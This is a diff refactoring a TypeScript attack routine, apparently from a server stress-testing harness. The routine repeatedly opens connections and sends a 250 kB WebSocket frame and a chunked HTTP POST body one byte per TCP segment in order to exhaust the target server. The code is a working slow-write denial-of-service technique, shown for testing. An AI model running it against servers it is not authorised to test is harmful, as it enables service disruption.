@@ -1,26 +1,25 @@
-import { connect } from 'node:net'
 import type { Socket } from 'node:net'
-import { count, type Attack } from '../attack.ts'
-import { frame, openVisitor, reopening } from '../raw-socket.ts'
+import { frame, opcodes } from '../../clients/frame.ts'
+import { openConnection, requestHead } from '../../clients/raw-socket.ts'
+import { openRawVisitor } from '../../clients/raw-visitor.ts'
+import { count } from '../../support/counts.ts'
+import type { Attack } from '../attack.ts'
+import { reopening } from '../flood.ts'
 
 const size = 250_000
 
 /** A frame and a body of 250 kB, each byte in its own TCP segment. */
-export const oneByteSegments: Attack = (target, achieved) => {
+export const oneByteSegments: Attack = ({ url, addresses: [address] }, achieved) => {
   reopening(achieved, async (gone) => {
-    const visitor = await openVisitor(target, { name: 'bytes', gone })
-    trickle(visitor.socket, frame(1, ' '.repeat(size)), () => count(achieved, 'segments to a socket'))
+    const visitor = await openRawVisitor({ url, address }, { gone })
+    trickle(visitor.socket, frame(opcodes.text, ' '.repeat(size)), () => count(achieved, 'segments to a socket'))
   })
   reopening(achieved, async (gone) => {
-    const { hostname, port, pathname } = new URL(target.url)
-    const [localAddress] = target.addresses
-    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
-    socket.on('error', () => undefined) // its close says the same
+    const socket = openConnection({ url, address })
     socket.once('close', gone)
     socket.resume()
-    socket.setNoDelay()
-    const type = 'Content-Type: application/json\r\nTransfer-Encoding: chunked'
-    socket.write(`POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n${type}\r\n\r\n`)
+    const headers = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }
+    socket.write(`${requestHead('POST', url, headers)}\r\n`)
     trickle(socket, Buffer.from('1\r\n \r\n'.repeat(size)), () => count(achieved, 'segments of posts'))
   })
 }
